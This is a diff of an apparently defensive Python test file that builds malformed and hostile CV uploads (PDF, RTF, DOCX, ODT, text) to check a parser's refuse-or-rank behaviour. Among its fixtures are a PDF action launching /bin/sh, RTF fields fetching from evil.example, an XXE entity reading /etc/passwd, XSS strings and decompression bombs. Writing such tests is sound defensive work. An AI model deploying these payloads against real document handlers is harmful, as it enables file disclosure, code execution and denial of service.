@@ -155,13 +155,13 @@ HOSTILE: list[tuple[str, Callable[[], bytes], set[str]]] = [
 ]
 
 
-def acting() -> bytes:
-    """A PDF with words and with all that a viewer may be told to do."""
+def acting(pages: bytes = b"1") -> bytes:
+    """A PDF with words and with all that a viewer may be told to do, which says that it has so many pages."""
     content = b"BT /F1 12 Tf 72 700 Td (Customer service representative, Zendesk) Tj ET"
     return raw_pdf(
         b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
         b" /AA << /WC << /S /Launch /F (/bin/sh) >> >> >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count %b >>" % pages,
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
         b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >>",
         b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
@@ -192,7 +192,7 @@ def table_loop() -> bytes:
 
 
 def nested_arrays() -> bytes:
-    return raw_pdf(*ONE_PAGE, b"[" * 500_000 + b"]" * 500_000)
+    return raw_pdf(*ONE_PAGE, b"[" * 200_000 + b"]" * 200_000)
 
 
 def climbing() -> bytes:
@@ -229,6 +229,77 @@ def both_kinds() -> bytes:
     return acting() + word(paragraph("Customer service"))
 
 
+def asking_rtf() -> bytes:
+    """An RTF with a template, a picture and a field from elsewhere, and an object to be run."""
+    return (
+        rb"{\rtf1\ansi{\*\template https://evil.example/t.dotm}Customer service, Zendesk"
+        rb'{\field{\*\fldinst INCLUDEPICTURE "https://evil.example/x.png"}{\fldrslt x}}'
+        rb"{\object\objautlink\objupdate{\*\objdata 01050000}{\result y}}}"
+    )
+
+
+def nested_rtf() -> bytes:
+    return rb"{\rtf1 Customer service, " + b"{" * 100_000 + b"Zendesk" + b"}" * 100_001
+
+
+def recursive() -> bytes:
+    """A zip whose only part is named as a DOCX's and is a zip again, six deep."""
+    inner = b"<w:document/>"
+    for _ in range(6):
+        inner = zipped({"word/document.xml": inner, "[Content_Types].xml": b"<Types/>"})
+    return inner
+
+
+def nested_tables(deep: int) -> str:
+    cell = paragraph("Customer service, Zendesk")
+    return "<w:tbl><w:tr><w:tc>" * deep + cell + "</w:tc></w:tr></w:tbl>" * deep
+
+
+def wide_row() -> bytes:
+    said = paragraph("Customer service, Zendesk")
+    return word(f"{said}<w:tbl><w:tr>{'<w:tc/>' * 1_000_000}</w:tr></w:tbl>")
+
+
+def entities_odt() -> bytes:
+    said = b'<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><p xmlns="urn:t">Zendesk &f;</p>'
+    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": said})
+
+
+def many_pages() -> bytes:
+    def draw(page: canvas.Canvas) -> None:
+        for number in range(500):
+            page.drawString(72, 750, f"Customer service, Zendesk {number}")
+            page.showPage()
+
+    return pdf(draw, pageCompression=1)
+
+
+def scattered() -> bytes:
+    """A PDF whose letters are drawn apart and in no order: all are held against all."""
+    chance = random.Random(3)
+
+    def draw(page: canvas.Canvas) -> None:
+        for sheet in range(3):
+            page.drawString(72, 800, f"Customer service, Zendesk {sheet}")
+            for _ in range(380):
+                page.drawString(chance.randrange(600), chance.randrange(790), chance.choice("abc") * 3)
+            page.showPage()
+
+    return pdf(draw, pageCompression=1)
+
+
+def vast_picture() -> bytes:
+    """A PDF with a picture of 100,000 by 100,000 points that is hardly any data."""
+    page = ONE_PAGE[2].replace(b"/Contents", b"/Resources << /XObject << /X 5 0 R >> >> /Contents")
+    picture = b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
+    return raw_pdf(
+        *ONE_PAGE[:2],
+        page,
+        b"<< /Length 24 >>\nstream\n612 0 0 792 0 0 cm /X Do\nendstream",
+        picture + b" /Length 4 >>\nstream\nabcd\nendstream",
+    )
+
+
 def markup() -> bytes:
     return (
         b"Customer service, Zendesk. </textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>"
@@ -258,7 +329,40 @@ UPLOADS: list[tuple[str, str, Callable[[], bytes], bool]] = [
     ("a picture", "cv.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), REFUSED),
     ("a web page", "cv.docx", lambda: b"<!DOCTYPE html><script>alert(1)</script>Customer service", REFUSED),
     ("a picture of lines", "cv.txt", lambda: b"<svg xmlns='x' onload='alert(1)'>Zendesk calls</svg>", RANKED),
-    ("an RTF", "cv.doc", lambda: rb"{\rtf1 {\object\objdata 0105} Customer service}", REFUSED),
+    ("an RTF", "cv.doc", lambda: rb"{\rtf1 {\object\objdata 0105} Customer service, Zendesk}", RANKED),
+    ("an RTF that asks elsewhere", "cv.rtf", asking_rtf, RANKED),
+    ("an RTF of 100,000 groups in groups", "cv.rtf", nested_rtf, RANKED),
+    ("an RTF of groups without end", "cv.rtf", lambda: rb"{\rtf1 Zendesk" + b"{" * (5 * 2**20 - 20), RANKED),
+    ("an RTF of letters in figures", "cv.rtf", lambda: rb"{\rtf1 Zendesk " + rb"\'41 " * 200_000, RANKED),
+    (
+        "an RTF of characters by number",
+        "cv.rtf",
+        lambda: rb"{\rtf1 Zendesk " + rb"\u-10179 ?" * 200_000,
+        RANKED,
+    ),
+    (
+        "an RTF of rows without end",
+        "cv.rtf",
+        lambda: rb"{\rtf1 Zendesk \trowd " + rb"a\cell " * 200_000,
+        RANKED,
+    ),
+    ("an RTF of fonts", "cv.rtf", lambda: rb"{\rtf1{\fonttbl" + rb"\f1" * 300_000 + b"}Zendesk}", REFUSED),
+    ("an RTF that counts too far", "cv.rtf", lambda: rb"{\rtf1 {\pict\bin999999999 } Zendesk}", REFUSED),
+    ("ten thousand parts", "cv.docx", lambda: zipped({f"word/{n}.xml": b"" for n in range(10_000)}), REFUSED),
+    ("an archive of its own kind", "cv.docx", recursive, REFUSED),
+    ("tables in tables", "cv.docx", lambda: word(nested_tables(60)), RANKED),
+    ("too many tables in tables", "cv.docx", lambda: word(nested_tables(3_000)), REFUSED),
+    ("a row of a million cells", "cv.docx", wide_row, RANKED),
+    ("an ODT of entities", "cv.odt", entities_odt, REFUSED),
+    ("a PDF of a billion pages", "cv.pdf", lambda: acting(b"1000000000"), RANKED),
+    ("a PDF of five hundred pages", "cv.pdf", many_pages, RANKED),
+    ("a PDF of letters everywhere", "cv.pdf", scattered, RANKED),
+    ("a PDF of a picture too large", "cv.pdf", vast_picture, REFUSED),
+    ("a spreadsheet", "cv.xlsx", lambda: zipped({"xl/workbook.xml": b"<x/>"}), REFUSED),
+    ("a Pages file", "cv.pages", lambda: zipped({"Index/Document.iwa": NOISE}), REFUSED),
+    ("an archive", "cv.zip", lambda: zipped({"cv.pdf": acting()}), REFUSED),
+    ("UTF-16 without a mark", "cv.txt", lambda: "Customer service, Zendesk".encode("utf-16-be"), RANKED),
+    ("zeros between words", "cv.txt", lambda: b"Customer\0service\0Zendesk " * 50, REFUSED),
     ("an old Word file", "cv.doc", lambda: OLE + "WordDocument".encode("utf-16-le"), REFUSED),
     ("a program", "cv.txt", lambda: b"\x7fELF\x02\x01" + bytes(range(256)), REFUSED),
     ("nothing", "cv.pdf", lambda: b"", REFUSED),
@@ -269,7 +373,7 @@ UPLOADS: list[tuple[str, str, Callable[[], bytes], bool]] = [
     ("one word without end", "cv.txt", lambda: b"zendesk" * 700_000, REFUSED),
     ("lines without words", "cv.txt", lambda: b"-\n" * 2_000_000, REFUSED),
     ("letters apart without end", "cv.txt", lambda: b"C A L L " * 600_000, REFUSED),
-    ("words cut without end", "cv.txt", lambda: b"cus-\ntomer-\n" * 400_000, RANKED),
+    ("words cut without end", "cv.txt", lambda: b"Zendesk " + b"cus-\ntomer-\n" * 400_000, RANKED),
     ("combining characters", "cv.txt", ("Zendesk " + "e\u0301" * 1_000_000).encode, RANKED),
     ("an escape for terminals", "cv.txt", lambda: b"\x1b]0;hostile\x07 customer service, Zendesk", REFUSED),
     (
